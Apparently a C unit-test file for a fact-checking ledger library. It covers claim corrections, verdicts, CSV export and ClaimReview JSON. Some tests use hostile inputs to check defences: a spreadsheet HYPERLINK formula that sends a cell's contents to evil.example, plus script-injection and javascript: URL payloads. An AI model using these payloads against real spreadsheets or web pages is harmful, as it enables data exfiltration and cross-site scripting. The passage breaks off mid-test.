/*
 * facts_test.c: the current view of a claim (corrections applied member by
 * member, the latest verdict), the rating scale, CSV quoting, and the
 * ClaimReview members Google's fact-check markup requires.
 */
#include <jansson.h>

#include "tests/testutil.h"
#include "tests/ledger_fixture.h"

#include "crypto/crypto.h"
#include "ledger/facts.h"
#include "ledger/store.h"

static int setup(void **state)
{
	return tu_fx_new(state, "example.org/facts");
}

static int teardown(void **state)
{
	return tu_fx_free(state);
}

/* Append one record from JSON text; "%s" in it becomes the hex id of
 * record `ref`. */
static uint64_t append(struct fx *f, const char *fmt, uint64_t ref)
{
	char hex[CL_ID_HEX + 1], text[2048];
	cl_error err = { 0, "" };
	json_error_t jerr;
	cl_txn *t = NULL;
	json_t *fields;
	uint64_t seq;

	cl_hex_encode(hex, f->id[ref], CL_HASH_BYTES);
	snprintf(text, sizeof text, fmt, hex);
	fields = json_loads(text, 0, &jerr);
	if (fields == NULL)
		fail_msg("not JSON: %s", text);
	assert_cl_ok(cl_ledger_begin(f->l, &t, &err), &err);
	assert_cl_ok(cl_txn_append(t, fields, f->owner, T0 + (int64_t)f->n * 86400,
				   &seq, f->id[f->n], &err), &err);
	assert_cl_ok(cl_txn_commit(t, &err), &err);
	json_decref(fields);
	assert_int_equal(seq, f->n);
	return f->n++;
}

static void load(struct fx *f, uint64_t seq, unsigned flags, cl_fact *fact)
{
	cl_error err = { 0, "" };
	cl_record r = { 0 };

	assert_cl_ok(cl_ledger_get(f->l, seq, &r, &err), &err);
	assert_cl_ok(cl_fact_load(f->l, &r, flags, fact, &err), &err);
	cl_record_release(&r);
}

static const char *claim_q =
	"{\"type\":\"claim\",\"text\":\"Turnout was 42%%.\",\"speaker\":\"A. Person\","
	"\"source\":\"https://example.org/a\",\"date\":\"2021-11-22\",\"kind\":\"direct\"}";

static void test_scale(void **state)
{
	size_t n;
	const cl_rating *s = cl_rating_scale(&n);

	(void)state;
	assert_int_equal(n, 7);
	assert_string_equal(s[0].name, "true");
	assert_int_equal(cl_rating_find("true")->value, 5);
	assert_int_equal(cl_rating_find("mostly-true")->value, 4);
	assert_int_equal(cl_rating_find("mixed")->value, 3);
	assert_int_equal(cl_rating_find("mostly-false")->value, 2);
	assert_int_equal(cl_rating_find("false")->value, 1);
	assert_int_equal(cl_rating_find("misleading")->value, 0);
	assert_string_equal(cl_rating_find("unproven")->label, "Unproven");
	assert_null(cl_rating_find("False"));
	assert_null(cl_rating_find("pants-on-fire"));
	assert_null(cl_rating_find(NULL));
}

static void test_current_view(void **state)
{
	struct fx *f = *state;
	cl_fact fact = { 0 };
	char hex[CL_ID_HEX + 1];
	uint64_t c, other, v1, v2, k1, k2;
	json_t *h, *cur;

	c = append(f, claim_q, 0);
	other = append(f, claim_q, 0);
	load(f, c, 0, &fact);
	assert_string_equal(cl_fact_str(&fact, "speaker"), "A. Person");
	assert_int_equal(fact.ncorrections, 0);
	assert_null(fact.verdict);
	assert_null(fact.rating);
	assert_string_equal(fact.corrected_by, "");
	cl_fact_free(&fact);

	v1 = append(f, "{\"type\":\"verdict\",\"claim\":\"%s\",\"rating\":\"false\"}", c);
	k1 = append(f, "{\"type\":\"correction\",\"target\":\"%s\",\"reason\":\"r1\","
		       "\"speaker\":\"B. Person\",\"date\":\"2021-11-21\"}", c);
	append(f, "{\"type\":\"verdict\",\"claim\":\"%s\",\"rating\":\"true\"}", other);
	v2 = append(f, "{\"type\":\"verdict\",\"claim\":\"%s\",\"rating\":\"mostly-true\","
		       "\"note\":\"n\"}", c);
	k2 = append(f, "{\"type\":\"correction\",\"target\":\"%s\",\"reason\":\"r2\","
		       "\"speaker\":\"C. Person\",\"text\":\"Turnout was 38%%.\"}", c);
	/* A correction of the verdict does not touch the claim's view. */
	append(f, "{\"type\":\"correction\",\"target\":\"%s\",\"reason\":\"typo\"}", v2);

	load(f, c, CL_FACT_HISTORY, &fact);
	/* Member by member: the latest correction carrying each one wins. */
	assert_string_equal(cl_fact_str(&fact, "speaker"), "C. Person");
	assert_string_equal(cl_fact_str(&fact, "text"), "Turnout was 38%.");
	assert_string_equal(cl_fact_str(&fact, "date"), "2021-11-21");
	assert_string_equal(cl_fact_str(&fact, "source"), "https://example.org/a");
	assert_string_equal(cl_fact_str(&fact, "kind"), "direct");
	/* The record as signed is kept. */
	assert_string_equal(json_string_value(json_object_get(fact.claim, "speaker")),
			    "A. Person");
	assert_int_equal(fact.ncorrections, 2);
	assert_int_equal(fact.corrected_seq, k2);
	cl_hex_encode(hex, f->id[k2], CL_HASH_BYTES);
	assert_string_equal(fact.corrected_by, hex);
	/* The current verdict is the latest one. */
	assert_int_equal(fact.nverdicts, 2);
	assert_int_equal(fact.verdict_seq, v2);
	assert_string_equal(fact.rating->name, "mostly-true");
	cl_hex_encode(hex, f->id[v2], CL_HASH_BYTES);
	assert_string_equal(fact.verdict_id, hex);
	/* History: v1, k1, v2, k2 in seq order, with the changes made. */
	assert_int_equal(json_array_size(fact.history), 4);
	h = json_array_get(fact.history, 0);
	assert_int_equal(json_integer_value(json_object_get(h, "seq")), v1);
	assert_int_equal(json_integer_value(json_object_get(h, "rating_value")), 1);
	h = json_array_get(fact.history, 1);
	assert_int_equal(json_integer_value(json_object_get(h, "seq")), k1);
	h = json_object_get(json_object_get(h, "changes"), "speaker");
	assert_string_equal(json_string_value(json_object_get(h, "from")), "A. Person");
	assert_string_equal(json_string_value(json_object_get(h, "to")), "B. Person");
	h = json_array_get(fact.history, 3);
	h = json_object_get(json_object_get(h, "changes"), "speaker");
	assert_string_equal(json_string_value(json_object_get(h, "from")), "B. Person");
	assert_string_equal(json_string_value(json_object_get(h, "to")), "C. Person");
	cur = cl_fact_current_json(&fact);
	assert_non_null(cur);
	assert_true(json_is_true(json_object_get(cur, "corrected")));
	assert_string_equal(json_string_value(json_object_get(cur, "verdict")), "mostly-true");
	assert_int_equal(json_integer_value(json_object_get(cur, "rating_value")), 4);
	json_decref(cur);
	cl_fact_free(&fact);
	cl_fact_free(&fact); /* a zeroed fact: no-op */

	/* The other claim is untouched by c's records. */
	load(f, other, 0, &fact);
	assert_string_equal(fact.rating->name, "true");
	assert_int_equal(fact.ncorrections, 0);
	cl_fact_free(&fact);
}

/* Append `fmt` (as append()) expecting the store to refuse it. */
static void append_refused(struct fx *f, const char *fmt, uint64_t ref, const char *why)
{
	char hex[CL_ID_HEX + 1], text[2048];
	cl_error err = { 0, "" };
	cl_txn *t = NULL;
	json_t *fields;
	int rc;

	cl_hex_encode(hex, f->id[ref], CL_HASH_BYTES);
	snprintf(text, sizeof text, fmt, hex);
	assert_non_null(fields = json_loads(text, 0, NULL));
	assert_cl_ok(cl_ledger_begin(f->l, &t, &err), &err);
	rc = cl_txn_append(t, fields, f->owner, T0, NULL, NULL, &err);
	cl_txn_abort(t);
	json_decref(fields);
	assert_int_not_equal(rc, CL_OK);
	if (strstr(err.msg, why) == NULL)
		fail_msg("refused for '%s', want '%s'", err.msg, why);
}

/* A correction of a verdict: its rating and note, the latest of each
 * winning, in the claim's view, its history and its CSV row; the record
 * rules refuse one on a claim and one off the scale. */
static void test_verdict_correction(void **state)
{
	struct fx *f = *state;
	cl_fact fact = { 0 };
	char hex[CL_ID_HEX + 1];
	uint64_t c, v1, v2, k1, k2, k3;
	json_t *h, *cur;
	char *buf = NULL;
	size_t len = 0;
	FILE *mem;
	cl_error err = { 0, "" };

	c = append(f, claim_q, 0);
	v1 = append(f, "{\"type\":\"verdict\",\"claim\":\"%s\",\"rating\":\"false\","
		       "\"note\":\"a\"}", c);
	k1 = append(f, "{\"type\":\"correction\",\"target\":\"%s\",\"reason\":\"r\","
		       "\"rating\":\"mostly-false\"}", v1);
	k2 = append(f, "{\"type\":\"correction\",\"target\":\"%s\",\"reason\":\"r\","
		       "\"note\":\"b\"}", v1);
	append_refused(f, "{\"type\":\"correction\",\"target\":\"%s\",\"reason\":\"r\","
		       "\"rating\":\"true\"}", c, "needs a verdict as target");
	append_refused(f, "{\"type\":\"correction\",\"target\":\"%s\",\"reason\":\"r\","
		       "\"rating\":\"wrong\"}", v1, "correction.rating");
	append_refused(f, "{\"type\":\"correction\",\"target\":\"%s\",\"reason\":\"r\","
		       "\"note\":\"x\",\"speaker\":\"Y\"}", v1, "need a claim as target");

	load(f, c, CL_FACT_HISTORY, &fact);
	assert_string_equal(fact.rating->name, "mostly-false");
	assert_string_equal(json_string_value(json_object_get(fact.verdict, "note")), "b");
	assert_int_equal(fact.verdict_seq, v1);
	assert_int_equal(fact.verdict_ncorrections, 2);
	cl_hex_encode(hex, f->id[k2], CL_HASH_BYTES);
	assert_string_equal(fact.verdict_corrected_by, hex);
	/* Verdict corrections are not corrections of the claim. */
	assert_int_equal(fact.ncorrections, 0);
	assert_int_equal(json_array_size(fact.history), 3);
	h = json_array_get(fact.history, 1);
	assert_int_equal(json_integer_value(json_object_get(h, "seq")), k1);
	h = json_object_get(json_object_get(h, "changes"), "rating");
	assert_string_equal(json_string_value(json_object_get(h, "from")), "false");
	assert_string_equal(json_string_value(json_object_get(h, "to")), "mostly-false");
	h = json_object_get(json_object_get(json_array_get(fact.history, 2), "changes"), "note");
	assert_string_equal(json_string_value(json_object_get(h, "from")), "a");
	assert_string_equal(json_string_value(json_object_get(h, "to")), "b");
	cur = cl_fact_current_json(&fact);
	assert_string_equal(json_string_value(json_object_get(cur, "verdict")), "mostly-false");
	assert_int_equal(json_integer_value(json_object_get(cur, "rating_value")), 2);
	assert_string_equal(json_string_value(json_object_get(cur, "verdict_note")), "b");
	json_decref(cur);
	assert_non_null(mem = open_memstream(&buf, &len));
	assert_cl_ok(cl_csv_row(mem, &fact, NULL, 0, &err), &err);
	fclose(mem);
	assert_non_null(strstr(buf, ",mostly-false,2,"));
	/* the note column: the verdict's note as corrected */
	assert_non_null(strstr(buf, ",b,"));
	free(buf);
	cl_fact_free(&fact);

	/* A later verdict is current; the earlier one's fixes stay in the history. */
	v2 = append(f, "{\"type\":\"verdict\",\"claim\":\"%s\",\"rating\":\"true\"}", c);
	k3 = append(f, "{\"type\":\"correction\",\"target\":\"%s\",\"reason\":\"r\","
		       "\"rating\":\"mixed\"}", v1);
	load(f, c, CL_FACT_HISTORY, &fact);
	assert_int_equal(fact.verdict_seq, v2);
	assert_string_equal(fact.rating->name, "true");
	assert_int_equal(fact.verdict_ncorrections, 0);
	assert_int_equal(json_array_size(fact.history), 5);
	h = json_array_get(fact.history, 4);
	assert_int_equal(json_integer_value(json_object_get(h, "seq")), k3);
	h = json_object_get(json_object_get(h, "changes"), "rating");
	assert_string_equal(json_string_value(json_object_get(h, "from")), "mostly-false");
	cl_fact_free(&fact);
}

static void test_not_a_claim(void **state)
{
	struct fx *f = *state;
	cl_error err = { 0, "" };
	cl_record r = { 0 };
	cl_fact fact = { 0 };

	assert_cl_ok(cl_ledger_get(f->l, 0, &r, &err), &err);
	assert_cl_err(cl_fact_load(f->l, &r, 0, &fact, &err), CL_EINPUT, &err,
		      "not a claim");
	assert_null(fact.claim);
	cl_record_release(&r);
}

/* Write with `fn` into a memory stream and compare with `want`. */
static void csv_expect(const char *in, const char *want)
{
	char *buf = NULL;
	size_t len = 0;
	FILE *m = open_memstream(&buf, &len);

	assert_non_null(m);
	assert_int_equal(cl_csv_field(m, in), CL_OK);
	fclose(m);
	assert_string_equal(buf, want);
	free(buf);
}

static void test_csv_quoting(void **state)
{
	(void)state;
	csv_expect("plain text", "plain text");
	csv_expect("", "");
	csv_expect("a,b", "\"a,b\"");
	csv_expect("say \"hi\"", "\"say \"\"hi\"\"\"");
	csv_expect("\"", "\"\"\"\"");
	csv_expect("line\nbreak", "\"line\nbreak\"");
	csv_expect("cr\rhere", "\"cr\rhere\"");
	csv_expect("crlf\r\n", "\"crlf\r\n\"");
	csv_expect("Très bien — 100% sûr", "Très bien — 100% sûr");
	csv_expect("Guaidó, \"sí\"\n", "\"Guaidó, \"\"sí\"\"\n\"");
	csv_expect("'single' ;semi; \ttab", "'single' ;semi; \ttab");
}

/* cl_csv_cell of `in` with `flags` into a memory stream, against `want`. */
static void cell_expect(const char *in, unsigned flags, const char *want)
{
	char *buf = NULL;
	size_t len = 0;
	FILE *m = open_memstream(&buf, &len);

	assert_non_null(m);
	assert_int_equal(cl_csv_cell(m, in, flags), CL_OK);
	fclose(m);
	assert_string_equal(buf, want);
	free(buf);
}

/* OWASP's CSV injection guard: a leading ' on formula-leading cells. */
static void test_csv_formula_guard(void **state)
{
	static const char link[] = "=HYPERLINK(\"https://evil.example/?d=\"&B2,\"source\")";

	(void)state;
	cell_expect(link, 0, "\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&B2,\"\"source\"\")\"");
	cell_expect(link, CL_CSV_RAW, "\"=HYPERLINK(\"\"https://evil.example/?d=\"\"&B2,\"\"source\"\")\"");
	cell_expect("=1+2", 0, "'=1+2");
	cell_expect("+1", 0, "'+1");
	cell_expect("-5% growth", 0, "'-5% growth");
	cell_expect("@SUM(A1)", 0, "'@SUM(A1)");
	cell_expect("\tcmd", 0, "'\tcmd");
	cell_expect("\rcmd", 0, "\"'\rcmd\"");
	cell_expect("-5,6", 0, "\"'-5,6\"");
	cell_expect("=1+2", CL_CSV_RAW, "=1+2");
	cell_expect("", 0, "");
	cell_expect("a=b", 0, "a=b");
	cell_expect(" =1", 0, " =1");
	cell_expect("'quoted", 0, "'quoted");
	cell_expect("2021-11-22", 0, "2021-11-22");
}

static void test_csv_export(void **state)
{
	struct fx *f = *state;
	cl_error err = { 0, "" };
	char *buf = NULL, want[512], hex[CL_ID_HEX + 1], vhex[CL_ID_HEX + 1];
	size_t len = 0;
	uint64_t c, v, rows = 0;
	FILE *m;

	c = append(f, "{\"type\":\"claim\",\"text\":\"He said \\\"no, never\\\".\\nThen left.\","
		      "\"speaker\":\"Jane Doe\",\"source\":\"https://a.example/x,y\","
		      "\"date\":\"2021-11-20\"}", 0);
	v = append(f, "{\"type\":\"verdict\",\"claim\":\"%s\",\"rating\":\"misleading\","
		      "\"note\":\"=1+1, see\",\"evidence\":[\"https://e.example/1\","
		      "\"https://e.example/2\"]}", c);
	m = open_memstream(&buf, &len);
	assert_non_null(m);
	assert_cl_ok(cl_facts_csv(f->l, m, 0, &rows, &err), &err);
	fclose(m);
	assert_int_equal(rows, 1);
	cl_hex_encode(hex, f->id[c], CL_HASH_BYTES);
	cl_hex_encode(vhex, f->id[v], CL_HASH_BYTES);
	snprintf(want, sizeof want, CL_CSV_HEADER "\r\n"
		 "%llu,%s,2021-11-20,Jane Doe,\"He said \"\"no, never\"\".\nThen left.\","
		 "\"https://a.example/x,y\",,misleading,,%s,no,"
		 /* the appended columns: note (guarded), evidence, rated by, at */
		 "\"'=1+1, see\",https://e.example/1 https://e.example/2,test-owner,",
		 (unsigned long long)c, hex, vhex);
	assert_int_equal(strncmp(buf, want, strlen(want)), 0);
	/* rated_at is the verdict's time; not corrected: two empty cells;
	 * no lang: an empty last cell */
	assert_int_equal(strlen(buf + strlen(want)), 20 + 3 + 2);
	assert_string_equal(buf + strlen(want) + 20, ",,,\r\n");
	free(buf);
}

/* A claim's lang: the CSV's last column and ClaimReview's inLanguage;
 * a claim without one stays "en" there (above) and empty in the CSV. */
static void test_lang_member(void **state)
{
	struct fx *f = *state;
	cl_newsroom nr = { NULL, NULL };
	cl_error err = { 0, "" };
	cl_fact fact = { 0 };
	char *buf = NULL;
	size_t len = 0;
	uint64_t c, rows = 0;
	json_t *o;
	FILE *m;

	c = append(f, "{\"type\":\"claim\",\"text\":\"La participaci\u00f3n fue hist\u00f3rica.\","
		      "\"speaker\":\"Ana P\u00e9rez\",\"source\":\"https://a.example/es\","
		      "\"date\":\"2021-11-20\",\"lang\":\"es\"}", 0);
	append(f, "{\"type\":\"verdict\",\"claim\":\"%s\",\"rating\":\"false\"}", c);
	load(f, c, 0, &fact);
	o = cl_fact_claimreview(&fact, &nr);
	assert_non_null(o);
	assert_string_equal(json_string_value(json_object_get(o, "inLanguage")), "es");
	json_decref(o);
	cl_fact_free(&fact);
	m = open_memstream(&buf, &len);
	assert_non_null(m);
	assert_cl_ok(cl_facts_csv(f->l, m, 0, &rows, &err), &err);
	fclose(m);
	assert_int_equal(rows, 1);
	assert_true(len > 5);
	assert_string_equal(buf + len - 5, ",es\r\n");
	free(buf);
}

static void test_claimreview(void **state)
{
	struct fx *f = *state;
	cl_newsroom nr = { NULL, NULL };
	cl_error err = { 0, "" };
	cl_fact fact = { 0 };
	char *buf = NULL, url[256];
	size_t len = 0;
	uint64_t c, n = 0;
	json_t *o, *a, *rr, *it;
	FILE *m;

	assert_cl_err(cl_newsroom_load(f->l, &nr, &err), CL_ENOTFOUND, &err,
		      "no newsroom");
	m = open_memstream(&buf, &len);
	assert_int_equal(cl_facts_claimreview(f->l, m, &n, &err), CL_ENOTFOUND);
	fclose(m);
	free(buf);
	buf = NULL;

	append(f, "{\"type\":\"config\",\"newsroom\":\"Old name\",\"url\":\"https://fc.example/\"}", 0);
	append(f, "{\"type\":\"config\",\"newsroom\":\"Fact Desk\"}", 0);
	assert_cl_ok(cl_newsroom_load(f->l, &nr, &err), &err);
	assert_string_equal(nr.name, "Fact Desk");          /* latest name */
	assert_string_equal(nr.url, "https://fc.example/"); /* latest url */

	c = append(f, claim_q, 0);
	load(f, c, 0, &fact);
	assert_null(cl_fact_claimreview(&fact, &nr)); /* not rated */
	cl_fact_free(&fact);
	append(f, "{\"type\":\"verdict\",\"claim\":\"%s\",\"rating\":\"mostly-false\"}", c);
	load(f, c, 0, &fact);
	o = cl_fact_claimreview(&fact, &nr);
	assert_non_null(o);
	assert_string_equal(json_string_value(json_object_get(o, "@context")), "https://schema.org");
	assert_string_equal(json_string_value(json_object_get(o, "@type")), "ClaimReview");
	snprintf(url, sizeof url, "https://fc.example/#claim-%s", fact.id);
	assert_string_equal(json_string_value(json_object_get(o, "url")), url);
	assert_string_equal(json_string_value(json_object_get(o, "claimReviewed")), "Turnout was 42%.");
	rr = json_object_get(o, "reviewRating");
	assert_string_equal(json_string_value(json_object_get(rr, "@type")), "Rating");
	assert_int_equal(json_integer_value(json_object_get(rr, "ratingValue")), 2);
	assert_int_equal(json_integer_value(json_object_get(rr, "bestRating")), 5);
	assert_int_equal(json_integer_value(json_object_get(rr, "worstRating")), 1);
	assert_string_equal(json_string_value(json_object_get(rr, "alternateName")), "Mostly false");
	it = json_object_get(o, "itemReviewed");
	assert_string_equal(json_string_value(json_object_get(it, "@type")), "Claim");
	assert_string_equal(json_string_value(json_object_get(json_object_get(it, "author"), "@type")), "Person");
	assert_string_equal(json_string_value(json_object_get(json_object_get(it, "author"), "name")), "A. Person");
	assert_string_equal(json_string_value(json_object_get(it, "datePublished")), "2021-11-22");
	a = json_object_get(it, "appearance");
	assert_string_equal(json_string_value(json_object_get(a, "@type")), "CreativeWork");
	assert_string_equal(json_string_value(json_object_get(a, "url")), "https://example.org/a");
	a = json_object_get(o, "author");
	assert_string_equal(json_string_value(json_object_get(a, "@type")), "Organization");
	assert_string_equal(json_string_value(json_object_get(a, "name")), "Fact Desk");
	assert_string_equal(json_string_value(json_object_get(a, "url")), "https://fc.example/");
	/* The verdict's day: T0 + seq days. */
	assert_non_null(json_string_value(json_object_get(o, "datePublished")));
	assert_int_equal(strlen(json_string_value(json_object_get(o, "datePublished"))), 10);
	json_decref(o);
	cl_fact_free(&fact);

	m = open_memstream(&buf, &len);
	assert_cl_ok(cl_facts_claimreview(f->l, m, &n, &err), &err);
	fclose(m);
	assert_int_equal(n, 1);
	o = json_loads(buf, 0, NULL);
	assert_true(json_is_array(o));
	assert_int_equal(json_array_size(o), 1);
	json_decref(o);
	free(buf);
	cl_newsroom_free(&nr);
}

/* The fact-checker's own work in ClaimReview: the verdict's url, its note
 * and evidence, the speaker's type as the rater stated it, no numbers for
 * a rating off the numeric scale. */
static void test_claimreview_verdict(void **state)
{
	struct fx *f = *state;
	cl_newsroom nr = { (char *)"Fact Desk", (char *)"https://fc.example/" };
	cl_fact fact = { 0 };
	uint64_t c;
	json_t *o, *rr, *cit;

	c = append(f, claim_q, 0);
	/* signed as an old tool might: one evidence string is not a URL */
	tu_fx_append_signed(f, "{\"type\":\"verdict\",\"claim\":\"%s\",\"rating\":\"misleading\","
		      "\"note\":\"Out of context.\",\"evidence\":[\"https://e.example/1\","
		      "\"the minutes\"],\"url\":\"https://fc.example/2021/turnout\","
		      "\"speaker_type\":\"organization\"}", c);
	load(f, c, 0, &fact);
	assert_int_equal(cl_fact_speaker_is_org(&fact), 1); /* "A. Person", stated */
	o = cl_fact_claimreview_ex(&fact, &nr, "2021-11-19");
	assert_non_null(o);
	assert_string_equal(json_string_value(json_object_get(o, "url")),
			    "https://fc.example/2021/turnout");
	assert_string_equal(json_string_value(json_object_get(o, "reviewBody")), "Out of context.");
	cit = json_object_get(o, "citation");
	assert_int_equal(json_array_size(cit), 1);
	assert_string_equal(json_string_value(json_object_get(json_array_get(cit, 0), "url")),
			    "https://e.example/1");
	rr = json_object_get(o, "reviewRating");
	assert_null(json_object_get(rr, "ratingValue"));
	assert_null(json_object_get(rr, "bestRating"));
	assert_null(json_object_get(rr, "worstRating"));
	assert_string_equal(json_string_value(json_object_get(rr, "alternateName")), "Misleading");
	assert_string_equal(json_string_value(json_object_get(json_object_get(
		json_object_get(o, "itemReviewed"), "author"), "@type")), "Organization");
	assert_string_equal(json_string_value(json_object_get(json_object_get(
		json_object_get(o, "itemReviewed"), "appearance"), "datePublished")), "2021-11-19");
	assert_string_equal(json_string_value(json_object_get(o, "inLanguage")), "en");
	json_decref(o);
	cl_fact_free(&fact);
	/* a later verdict that states a person wins */
	append(f, "{\"type\":\"verdict\",\"claim\":\"%s\",\"rating\":\"true\","
	       "\"speaker_type\":\"person\"}", c);
	load(f, c, 0, &fact);
	assert_int_equal(cl_fact_speaker_is_org(&fact), 0);
	o = cl_fact_claimreview(&fact, &nr);
	assert_non_null(o);
	assert_null(json_object_get(o, "reviewBody"));
	assert_null(json_object_get(o, "citation"));
	assert_null(json_object_get(json_object_get(json_object_get(o, "itemReviewed"),
						    "appearance"), "datePublished"));
	rr = json_object_get(o, "reviewRating");
	assert_int_equal(json_integer_value(json_object_get(rr, "ratingValue")), 5);
	assert_int_equal(json_integer_value(json_object_get(rr, "bestRating")), 5);
	assert_int_equal(json_integer_value(json_object_get(rr, "worstRating")), 1);
	json_decref(o);
	cl_fact_free(&fact);
}

/* An archived article's date, read as the extractor reads its headers. */
static void test_article_date(void **state)
{
	static const struct { const char *text, *want; } cases[] = {
		{ "url https://a.example/x\ndate 2021-11-22\n\nBody.", "2021-11-22" },
		{ "  date: Posted 2021-11-22 23:29 GMT\r\ntitle T\n\nBody.", "2021-11-22" },
		{ "\n\ntitle T\n\ndate 2021-11-22\n", "2021-11-22" },
		{ "date soon\ndate 2021-01-02\n", "2021-01-02" }, /* the first with one */
		{ "date 12021-11-22\n", "" },          /* inside a longer number */
		{ "date 2021-02-29\n", "" },           /* not a real day */
		{ "date 2021-13-01 2021-11-22\n", "2021-11-22" }, /* no month 13 */
		{ "Body first.\ndate 2021-11-22\n", "" }, /* not a header any more */
		{ "author X\ndate 2021-11-22\n", "" },    /* an unknown key ends them */
		{ "date\n", "" },
		{ "", "" },
	};
	char out[11];
	size_t i;

	(void)state;
	for (i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		int got = cl_article_date(cases[i].text, strlen(cases[i].text), out);
		assert_int_equal(got, cases[i].want[0] != '\0');
		assert_string_equal(out, cases[i].want);
	}
}

/* Third-party text in the ClaimReview export: it goes into a <script>
 * element, so no '<', '>' or '&' byte and no raw U+2028/U+2029 may come
 * out, and the JSON still reads back to the same text; URL members that
 * are not absolute http(s) URLs (an old ledger's) are left out. */
static void test_claimreview_hostile(void **state)
{
	struct fx *f = *state;
	cl_error err = { 0, "" };
	char *buf = NULL;
	size_t len = 0;
	uint64_t c, n = 0;
	json_t *a, *o, *it;
	FILE *m;

	tu_fx_append_signed(f, "{\"type\":\"config\",\"newsroom\":\"Desk <b>\","
		      "\"url\":\"javascript:alert(1)//\"}", 0);
	c = tu_fx_append_signed(f, "{\"type\":\"claim\",\"text\":\"</script><script>alert(1)"
			  "</script> &amp; \\u2020\\u2028\\u2029\\u20ac\\u2028x\\u00e2\","
			  "\"speaker\":\"Jane <i>Doe</i>\",\"source\":\"example-herald.com\","
			  "\"date\":\"2021-11-22\"}", 0);
	append(f, "{\"type\":\"verdict\",\"claim\":\"%s\",\"rating\":\"false\"}", c);
	m = open_memstream(&buf, &len);
	assert_cl_ok(cl_facts_claimreview(f->l, m, &n, &err), &err);
	fclose(m);
	assert_int_equal(n, 1);
	assert_null(memchr(buf, '<', len));
	assert_null(memchr(buf, '>', len));
	assert_null(memchr(buf, '&', len));
	assert_null(strstr(buf, "\xe2\x80\xa8"));
	assert_null(strstr(buf, "\xe2\x80\xa9"));
	assert_non_null(strstr(buf, "\"\\u003c/script\\u003e\\u003cscript\\u003e"));
	assert_non_null(strstr(buf, "\\u0026amp;"));
	assert_non_null(strstr(buf, "\xe2\x80\xa0\\u2028\\u2029\xe2\x82\xac\\u2028x\xc3\xa2\""));
	a = json_loadb(buf, len, 0, NULL);
	assert_non_null(a);
	o = json_array_get(a, 0);
	assert_string_equal(json_string_value(json_object_get(o, "claimReviewed")),
			    "</script><script>alert(1)</script> &amp; "
			    "\xe2\x80\xa0\xe2\x80\xa8\xe2\x80\xa9\xe2\x82\xac\xe2\x80\xa8x\xc3\xa2");
	/* No url, no author url, no appearance: none of them is a URL. */
	assert_null(json_object_get(o, "url"));
	assert_null(json_object_get(json_object_get(o, "author"), "url"));
	assert_string_equal(json_string_value(json_object_get(json_object_get(o, "author"), "name")),
			    "Desk <b>");
	it = json_object_get(o, "itemReviewed");
	assert_null(json_object_get(it, "appearance"));
	assert_string_equal(json_string_value(json_object_get(json_object_get(it, "author"), "name")),
			    "Jane <i>Doe</i>");
	json_decref(a);
	free(buf);
}

/* An article the governor is quoted from, and one of her aide's words. */
static const char article_gov[] =
	"The governor said: \u201cNot a single federal truck has reached these camps,\u201d at noon.\n"
	"Her aide later put it as \u201cNot one federal truck has reached these camps\u201d on the radio.\n";
#define GOV_SAID "Not a single federal truck has reached these camps"
#define AIDE_SAID "Not one federal truck has reached these camps"

static void put_article(struct fx *f, const char *a, char hex[CL_ID_HEX + 1])
{
	unsigned char id[CL_HASH_BYTES];
	cl_error err = { 0, "" };
	cl_txn *t = NULL;

	assert_cl_ok(cl_ledger_begin(f->l, &t, &err), &err);
	assert_cl_ok(cl_txn_put_document(t, a, strlen(a), id, &err), &err);
	assert_cl_ok(cl_txn_commit(t, &err), &err);
	cl_hex_encode(hex, id, CL_HASH_BYTES);
}

/* kind, offset and length are corrected member by member like the rest,
 * and every reader of the view (current JSON, CSV, ClaimReview) follows. */
static void test_view_kind_span(void **state)
{
	struct fx *f = *state;
	cl_fact fact = { 0 };
	cl_error err = { 0, "" };
	char doc[CL_ID_HEX + 1], fmt[1024], *buf = NULL;
	size_t off1 = strstr(article_gov, GOV_SAID) - article_gov;
	size_t off2 = strstr(article_gov, AIDE_SAID) - article_gov;
	size_t len = 0;
	uint64_t c, k1, k2, bare;
	json_t *cur, *ch, *o;
	FILE *m;

	put_article(f, article_gov, doc);
	snprintf(fmt, sizeof fmt, "{\"type\":\"claim\",\"text\":\"" GOV_SAID "\","
		 "\"speaker\":\"The governor\",\"source\":\"https://example.org/camps\","
		 "\"date\":\"2021-11-22\",\"kind\":\"direct\",\"document\":\"%s\","
		 "\"offset\":%zu,\"length\":%zu}", doc, off1, strlen(GOV_SAID));
	c = append(f, fmt, 0);
	snprintf(fmt, sizeof fmt, "{\"type\":\"correction\",\"target\":\"%%s\","
		 "\"reason\":\"the aide's words\",\"speaker\":\"The aide\",\"text\":\"" AIDE_SAID
		 "\",\"offset\":%zu,\"length\":%zu}", off2, strlen(AIDE_SAID));
	k1 = append(f, fmt, c);
	k2 = append(f, "{\"type\":\"correction\",\"target\":\"%s\",\"reason\":\"paraphrase\","
		       "\"kind\":\"manual\"}", c);
	append(f, "{\"type\":\"verdict\",\"claim\":\"%s\",\"rating\":\"true\"}", c);

	load(f, c, CL_FACT_HISTORY, &fact);
	assert_string_equal(cl_fact_str(&fact, "kind"), "manual");
	assert_string_equal(cl_fact_str(&fact, "text"), AIDE_SAID);
	assert_string_equal(cl_fact_str(&fact, "document"), doc);
	assert_int_equal(json_integer_value(json_object_get(fact.current, "offset")), off2);
	assert_int_equal(json_integer_value(json_object_get(fact.current, "length")),
			 strlen(AIDE_SAID));
	/* The record as signed is kept. */
	assert_string_equal(json_string_value(json_object_get(fact.claim, "kind")), "direct");
	assert_int_equal(json_integer_value(json_object_get(fact.claim, "offset")), off1);
	/* History: the span's change, then the kind's. */
	ch = json_object_get(json_object_get(json_array_get(fact.history, 0), "changes"), "offset");
	assert_int_equal(json_integer_value(json_object_get(ch, "from")), off1);
	assert_int_equal(json_integer_value(json_object_get(ch, "to")), off2);
	assert_int_equal(json_integer_value(json_object_get(json_array_get(fact.history, 0), "seq")), k1);
	ch = json_object_get(json_object_get(json_array_get(fact.history, 1), "changes"), "kind");
	assert_string_equal(json_string_value(json_object_get(ch, "from")), "direct");
	assert_string_equal(json_string_value(json_object_get(ch, "to")), "manual");
	assert_int_equal(fact.corrected_seq, k2);
	cur = cl_fact_current_json(&fact);
	assert_non_null(cur);
	assert_string_equal(json_string_value(json_object_get(cur, "kind")), "manual");
	assert_int_equal(json_integer_value(json_object_get(cur, "offset")), off2);
	assert_int_equal(json_integer_value(json_object_get(cur, "length")), strlen(AIDE_SAID));
	assert_string_equal(json_string_value(json_object_get(cur, "text")), AIDE_SAID);
	json_decref(cur);
	/* CSV: the current kind and text. */
